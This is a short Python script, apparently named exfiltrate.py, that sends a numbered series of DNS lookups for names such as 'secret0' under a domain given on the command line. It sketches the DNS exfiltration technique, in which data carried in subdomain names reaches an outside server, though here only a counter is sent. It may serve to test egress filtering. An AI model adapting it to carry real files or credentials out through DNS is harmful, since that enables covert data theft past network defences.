"""Asks for names that carry data: exfiltrate.py DOMAIN COUNT"""

import socket
import sys

domain, count = sys.argv[1], int(sys.argv[2])
for number in range(count):
    try:
        socket.getaddrinfo(f"secret{number}.{domain}", 80, socket.AF_INET)
    except socket.gaierror:
        pass
print("asked", count, "names")
